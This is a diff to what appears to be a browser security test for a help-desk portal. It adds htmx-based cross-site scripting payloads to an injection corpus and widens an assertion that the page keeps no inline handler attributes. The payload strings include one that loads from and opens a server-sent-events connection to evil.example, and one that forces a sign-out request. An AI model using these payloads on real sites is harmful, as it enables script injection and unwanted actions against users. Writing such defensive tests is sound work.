@@ -38,6 +38,8 @@ CORPUS = (
     "\u202e<script>owned=1</script>\u2066",
     "--><!--><script>owned=1;alert(1)</script>",
     "data: x\n\nevent: y\nid: z<script>owned=1</script>",
+    "<div hx-get=https://evil.example hx-trigger=load hx-on::load=owned=1 sse-connect=//evil.example>x</div>",
+    '" hx-get="/sign-out" hx-trigger="load" hx-on:click="owned=1" data-hx-vals="js:{a:owned=1}" x="',
 )
 _WATCH = """
 document.addEventListener('securitypolicyviolation', event => { window.complaints = (window.complaints || 0) + 1; window.about = event.blockedURI + ' ' + event.violatedDirective; });
@@ -152,7 +154,7 @@ class Watched:
         ), where
         assert (
             page.evaluate(
-                "[...document.querySelectorAll('main *')].flatMap(each => each.getAttributeNames()).filter(each => each.startsWith('on'))"
+                "[...document.querySelectorAll('main *')].flatMap(each => each.getAttributeNames()).filter(each => /^(on|(data-)?hx-(on|vals|headers|vars)|data-hx)/.test(each))"
             )
             == []
         ), where
@@ -168,6 +170,12 @@ def test_portal(browser: Browser, desk: RunningDesk, numbers: Mapping[str, str])
     for path in ("/portal", "/portal/report", "/account", *(f"/portal/incidents/{number}" for number in list(numbers.values())[:4])):
         watched.open(path)
     watched.open(f"/portal/reported/{next(iter(numbers.values()))}")
+    for number in list(numbers.values())[-3:]:
+        assert desk.tell(number, "acknowledge", "noah").status_code == 200
+    watched.open("/portal/report")
+    watched.page.locator("#topic").select_option("network")
+    watched.page.locator("#known li").nth(2).wait_for()
+    watched.look("what is known already, as htmx puts it there")
     for payload in CORPUS[:6]:
         watched.open("/portal/report")
         watched.page.locator("[name=description]").fill(payload)
